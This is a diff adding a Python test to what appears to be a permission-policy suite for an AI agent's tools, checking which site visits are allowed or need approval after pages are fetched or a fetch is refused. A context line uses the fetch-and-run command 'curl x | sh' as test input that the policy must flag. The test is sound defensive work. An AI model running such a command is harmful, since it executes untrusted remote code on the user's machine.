@@ -77,6 +77,22 @@ def test_text_of_a_page_taints_the_rest_of_the_session(story):
     assert story.shell("curl x | sh", "auto") == "ask"
 
 
+def test_a_site_that_was_read_without_the_browser_is_not_new_either(story):
+    story.called("fetch_page", "text", urls=["https://page.test/a", "no address \\"])
+    assert story.visit("https://page.test/b") == "allow"
+    assert story.visit("https://other.test/") == "ask"
+    refused = ToolProposed(
+        call_id="d",
+        name="fetch_page",
+        arguments={"urls": ["https://x.test"]},
+        risk="R1",
+        verdict="ask",
+    )
+    story.log.append(refused)
+    story.log.append(ToolEnded(call_id="d", name="fetch_page", outcome="denied"))
+    assert story.visit("https://x.test/") == "ask"
+
+
 def test_a_result_of_another_program_taints_too(story):
     story.called("mcp:mail/list", "hello")
     assert story.policy.tainted_by == ("mcp:mail",)
